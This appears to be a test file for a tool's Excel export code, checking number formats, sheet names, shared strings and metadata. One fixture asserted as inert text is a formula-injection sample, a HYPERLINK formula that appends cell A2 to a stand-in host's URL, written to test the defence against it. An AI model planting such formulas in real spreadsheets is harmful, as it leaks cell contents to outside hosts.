import { tempDir } from "../../testing/temp.ts";
import { deepStrictEqual as assertEquals, ok as assert } from "node:assert/strict";
import ExcelJS from "exceljs";
import pl from "nodejs-polars";
import { numberFormat, sheetNames, workbookBytes, writeWorkbook, writeWorkbooks } from "./xlsx.ts";
import { cellOf, projects, readBack } from "../../testing/workbook_fixtures.ts";
import { unzip, utf8 } from "../../testing/office.ts";

Deno.test("workbookBytes: no formula anywhere in the package, text cells are shared strings", async () => {
  const files = await unzip(await workbookBytes([{ name: "Hankkeet", frame: projects() }], { lang: "fi" }));
  const sheet = utf8(files["xl/worksheets/sheet1.xml"]!);
  for (const [path, data] of Object.entries(files)) {
    if (path.endsWith(".xml")) assert(!/<f[ >]/.test(utf8(data)), `${path} holds a formula`);
  }
  assert(!("xl/calcChain.xml" in files));
  const strings = utf8(files["xl/sharedStrings.xml"]!);
  assert(strings.includes("<t>=1+1</t>"));
  assert(strings.includes("HYPERLINK(&quot;http://example.invalid/?q=&quot;&amp;A2"));
  // the cells of project codes are shared-string cells (t="s"), numbers are not
  assert(/<c r="A2"[^>]* t="s"/.test(sheet));
  const funding = String.fromCharCode(65 + projects().columns.indexOf("funding_public_planned"));
  assert(new RegExp(`<c r="${funding}2"[^>]*><v>645300</v>`).test(sheet), sheet.slice(0, 2000));
  assert(sheet.includes('<pane ySplit="1" topLeftCell="A2" activePane="bottomLeft" state="frozen"/>'));
  const styles = utf8(files["xl/styles.xml"]!);
  for (const code of ["#,##0 &quot;€&quot;", "0.0 %", "d\\.m\\.yyyy"]) {
    assert(styles.includes(`formatCode="${code}"`), code);
  }
  assert(styles.includes('numFmtId="3"'), "#,##0 is Excel's built-in format 3");
  assert(styles.includes('numFmtId="49"'), "@ (Text) is Excel's built-in format 49");
});

Deno.test("workbookBytes in English: ISO dates and % without a space; one sheet per table", async () => {
  const frame = projects();
  const summary = pl.DataFrame({
    n_projects: [2],
    participant_realisation_median: [0.598],
    cost_per_participant: [5161.0],
  });
  const workbook = await readBack(
    await workbookBytes([
      { name: "Projects", frame },
      { name: "Summary: 2007/2013 [all]", frame: summary },
      { name: "summary: 2007/2013 [ALL]", frame: summary.head(0) },
    ], { lang: "en" }),
  );
  assertEquals(workbook.worksheets.map((sheet) => sheet.name), [
    "Projects",
    "Summary_ 2007_2013 _all_",
    "summary_ 2007_2013 _ALL_ (2)",
  ]);
  const projectsSheet = workbook.getWorksheet("Projects")!;
  assertEquals(cellOf(projectsSheet, frame, "start_date", 1).numFmt, "d mmm yyyy");
  assertEquals(cellOf(projectsSheet, frame, "participant_realisation", 1).numFmt, "0.0%");
  const summarySheet = workbook.getWorksheet("Summary_ 2007_2013 _all_")!;
  assertEquals((summarySheet.getRow(2).values as unknown[]).slice(1), [2, 0.598, 5161]);
  assertEquals(summarySheet.getCell("B2").numFmt, "0.0%");
  assertEquals(summarySheet.getCell("C2").numFmt, '"€"#,##0', "€ before the figure in English, as the page writes it");
  const empty = workbook.worksheets[2]!;
  assertEquals((empty.getRow(1).values as unknown[]).slice(1), [
    "n_projects",
    "participant_realisation_median",
    "cost_per_participant",
  ]);
  assertEquals(empty.autoFilter, "A1:C1");
});

Deno.test("sheetNames: at most 31 characters, never History, unique ignoring case", () => {
  const long = "Hankkeiden yhteenveto toimintalinjoittain 2014–2020";
  const [first, second, history, quoted] = sheetNames([long, long, "History", "'lainattu'"]);
  assertEquals(first, long.slice(0, 31));
  assertEquals(second!.length, 31);
  assert(second!.endsWith(" (2)"));
  assertEquals(history, "History_");
  assertEquals(quoted, "lainattu");
  assertEquals(numberFormat("decimal", 0, "fi"), "#,##0");
});

Deno.test("writeWorkbook writes the bytes to a file", async () => {
  const dir = await tempDir();
  try {
    await writeWorkbook(`${dir}/t.xlsx`, [{ name: "a", frame: pl.DataFrame({ a: [1] }) }], { lang: "fi" });
    const workbook = await readBack(await Deno.readFile(`${dir}/t.xlsx`));
    assertEquals(workbook.worksheets[0]!.getCell("A2").value, 1);
  } finally {
    await Deno.remove(dir, { recursive: true });
  }
});

Deno.test("writeWorkbook: the shared strings, written a chunk at a time, are exceljs' own sharedStrings.xml byte for byte", async () => {
  // More strings than one chunk holds, repeated ones, and what XML escapes or keeps with xml:space="preserve".
  const texts = Array.from(
    { length: 2_345 },
    (_, k) =>
      [` alku ${k}`, `loppu ${k} `, `rivi\n${k}`, `<a href="x">&'${k}'</a>`, `Hämeenlinna 😀 ${k % 700}`][k % 5]!,
  );
  texts.push("pitkä teksti ".repeat(400), texts[3]!);
  const dir = await tempDir();
  try {
    await writeWorkbook(`${dir}/ours.xlsx`, [{ name: "a", frame: pl.DataFrame({ teksti: texts }) }], { lang: "fi" });
    // exceljs' streaming writer as it is, given the same cells: the header, then the texts.
    const plain = new ExcelJS.stream.xlsx.WorkbookWriter({ filename: `${dir}/plain.xlsx`, useSharedStrings: true });
    const sheet = plain.addWorksheet("a");
    for (const value of ["teksti", ...texts]) sheet.addRow([value]).commit();
    sheet.commit();
    await plain.commit();
    const ours = utf8((await unzip(await Deno.readFile(`${dir}/ours.xlsx`)))["xl/sharedStrings.xml"]!);
    const theirs = utf8((await unzip(await Deno.readFile(`${dir}/plain.xlsx`)))["xl/sharedStrings.xml"]!);
    assert(ours.includes('<t xml:space="preserve"> alku 0</t>'));
    assert(ours.includes("&lt;a href=&quot;x&quot;&gt;&amp;&apos;3&apos;&lt;/a&gt;"));
    assertEquals(ours.length, theirs.length);
    assert(ours === theirs);
  } finally {
    await Deno.remove(dir, { recursive: true });
  }
});

Deno.test("a column of several units takes each row's kind: its number format, its cell, its width", async () => {
  const frame = pl.DataFrame({ metric: ["share", "cost", "count", "other"], median: [0.80008, 4232.4256, 33, 1.5] });
  const sheet = {
    name: "Jakaumat",
    frame,
    columns: { median: { kind: "decimal" as const, rowKinds: ["percent", "euros", "integer", undefined] as const } },
  };
  const dir = await tempDir();
  try {
    // The workbook in memory, and the streaming one (a sheet of its own beside report.xlsx).
    await writeWorkbooks(`${dir}/all.xlsx`, [`${dir}/own.xlsx`], [sheet], { lang: "fi" });
    const books = [
      await readBack(await workbookBytes([sheet], { lang: "fi" })),
      await readBack(await Deno.readFile(`${dir}/all.xlsx`)),
      await readBack(await Deno.readFile(`${dir}/own.xlsx`)),
    ];
    for (const book of books) {
      const cells = [2, 3, 4, 5].map((row) => book.worksheets[0]!.getCell(`B${row}`));
      assertEquals(cells.map((cell) => cell.value), [0.80008, 4232.4256, 33, 1.5], "the values as computed");
      assertEquals(cells.map((cell) => cell.numFmt), ["0.0 %", '#,##0 "€"', "#,##0", "#,##0.00"]);
    }
  } finally {
    await Deno.remove(dir, { recursive: true });
  }
});

Deno.test("a workbook's properties name the tool as its author and last editor, not the library (audit 33)", async () => {
  const dir = await tempDir("esf-xlsx-props-");
  await writeWorkbooks(`${dir}/all.xlsx`, [`${dir}/one.xlsx`], [{ name: "Hankkeet", frame: projects() }], {
    lang: "fi",
  });
  for (
    const bytes of [
      await workbookBytes([{ name: "Hankkeet", frame: projects() }], { lang: "fi" }),
      await Deno.readFile(`${dir}/all.xlsx`),
      await Deno.readFile(`${dir}/one.xlsx`),
    ]
  ) {
    const core = utf8((await unzip(bytes))["docProps/core.xml"]!);
    assert(core.includes("<dc:creator>esf-toolkit</dc:creator>"), core);
    assert(core.includes("<cp:lastModifiedBy>esf-toolkit</cp:lastModifiedBy>"), core);
  }
});
